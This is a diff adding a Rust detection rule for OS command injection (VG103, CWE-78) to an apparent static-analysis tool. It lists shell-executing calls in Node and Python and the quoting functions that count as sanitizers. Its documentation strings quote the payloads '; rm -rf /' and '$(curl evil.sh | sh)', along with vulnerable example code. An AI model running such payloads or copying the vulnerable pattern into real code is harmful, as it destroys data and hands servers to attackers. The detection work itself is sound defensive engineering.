@@ -1,0 +1,179 @@
+//! VG103 command-injection: request data in a command run by a shell.
+
+use std::borrow::Cow;
+
+use vibeguard_core::{
+    ChecklistId, Confidence, EngineId, Finding, OwaspApi, RuleDocs, RuleMeta, Severity,
+};
+
+use super::{Applicability, CodeRule, Context, describe_source};
+use crate::flow::label::{Kinds, Label};
+use crate::flow::{Call, FlowRule, Hit, SinkArg, kind};
+use crate::ir::ExprKind;
+
+/// The rule.
+#[derive(Debug)]
+pub struct CommandInjection;
+
+static META: RuleMeta = RuleMeta {
+    code: Cow::Borrowed("VG103"),
+    name: Cow::Borrowed("command-injection"),
+    engine: EngineId::Code,
+    summary: Cow::Borrowed("OS command built from request data"),
+    severity: Severity::Critical,
+    confidence: Confidence::Firm,
+    cwe: Cow::Borrowed(&[78]),
+    owasp_api: Some(OwaspApi::Api8SecurityMisconfiguration),
+    checklist: Cow::Borrowed(&[ChecklistId::Input01]),
+    docs: RuleDocs {
+        what: Cow::Borrowed(
+            "Request data in a command that a shell interprets: Node's `child_process.exec`/\
+             `execSync` (also through `util.promisify`), `spawn`/`execFile` with `shell: true`, \
+             shelljs `exec`, Python's `os.system`, `os.popen`, `subprocess.*` with `shell=True`, \
+             and `subprocess.getoutput`. Argument lists without a shell, and values passed \
+             through `shlex.quote` or numeric conversion, are safe.",
+        ),
+        why: Cow::Borrowed(
+            "`; rm -rf /`, `$(curl evil.sh | sh)` and backticks run whatever the attacker writes \
+             with the server's privileges: the machine is theirs.",
+        ),
+        example_bad: Cow::Borrowed(
+            "exec(`convert ${req.body.file} out.png`);\nos.system('ping -c 1 ' + request.args['host'])",
+        ),
+        example_fixed: Cow::Borrowed(
+            "execFile('convert', [req.body.file, 'out.png']);\nsubprocess.run(['ping', '-c', '1', host], check=True)",
+        ),
+        fix: Cow::Borrowed(
+            "Run the program directly with an argument list (`execFile`, `spawn` without \
+             `shell`, `subprocess.run([...])`), validate the input against an allowlist, and \
+             never hand a string built from input to a shell.",
+        ),
+        references: Cow::Borrowed(&[
+            Cow::Borrowed("https://cwe.mitre.org/data/definitions/78.html"),
+            Cow::Borrowed(
+                "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
+            ),
+        ]),
+    },
+};
+
+fn shell_true(call: &Call<'_, '_>) -> bool {
+    call.option("shell")
+        .is_some_and(|v| !matches!(v.kind, ExprKind::Bool(false) | ExprKind::Null))
+}
+
+impl FlowRule for CommandInjection {
+    fn kind(&self) -> Kinds {
+        kind::COMMAND
+    }
+
+    fn sinks<'a>(&self, call: &Call<'a, '_>) -> Vec<SinkArg<'a>> {
+        let qualified = call.qualified();
+        let Some(name) = qualified.rsplit('.').next() else {
+            return Vec::new();
+        };
+        if !matches!(
+            name,
+            "exec"
+                | "execSync"
+                | "spawn"
+                | "spawnSync"
+                | "execFile"
+                | "execFileSync"
+                | "system"
+                | "popen"
+                | "run"
+                | "call"
+                | "Popen"
+                | "check_output"
+                | "check_call"
+                | "getoutput"
+                | "getstatusoutput"
+                | "execaCommand"
+                | "execaCommandSync"
+                | "execa"
+                | "popen2"
+                | "popen3"
+                | "spawnShell"
+        ) {
+            return Vec::new();
+        }
+        let always_shell = call.is(&[
+            "child_process.exec",
+            "child_process.execSync",
+            "shelljs.exec",
+            "os.system",
+            "os.popen",
+            "subprocess.getoutput",
+            "subprocess.getstatusoutput",
+            "commands.getoutput",
+            "execa.execaCommand",
+            "execa.execaCommandSync",
+        ]);
+        let shell_option = call.is(&[
+            "child_process.spawn",
+            "child_process.spawnSync",
+            "child_process.execFile",
+            "child_process.execFileSync",
+            "subprocess.run",
+            "subprocess.call",
+            "subprocess.Popen",
+            "subprocess.check_output",
+            "subprocess.check_call",
+            "execa",
+            "execa.execa",
+        ]) && shell_true(call);
+        if !(always_shell || shell_option) {
+            return Vec::new();
+        }
+        let mut sinks = Vec::new();
+        if let Some(command) = call.arg(0) {
+            sinks.push(SinkArg {
+                value: command,
+                note: "shell command",
+            });
+        }
+        if shell_option && let Some(arguments) = call.arg(1) {
+            sinks.push(SinkArg {
+                value: arguments,
+                note: "shell command",
+            });
+        }
+        sinks
+    }
+
+    fn accepts(&self, label: &Label, _note: &'static str) -> bool {
+        label.request_part().is_some() && !label.is_cleansed(kind::COMMAND)
+    }
+
+    fn sanitizes(&self, call: &Call<'_, '_>) -> bool {
+        call.is(&[
+            "shlex.quote",
+            "pipes.quote",
+            "shell-quote.quote",
+            "shell-escape",
+            "shellescape",
+        ])
+    }
+}
+
+impl CodeRule for CommandInjection {
+    fn meta(&self) -> &'static RuleMeta {
+        &META
+    }
+
+    fn flow(&self) -> Option<&dyn FlowRule> {
+        Some(self)
+    }
+
+    fn check(&self, cx: &Context<'_>, hits: &[&Hit], out: &mut Vec<Finding>) -> Applicability {
+        for hit in hits {
+            let message = format!(
+                "shell command built from {}: run the program with an argument list instead",
+                describe_source(cx, hit)
+            );
+            out.push(cx.flow_finding(&META, hit, message));
+        }
+        super::any_code(cx)
+    }
+}
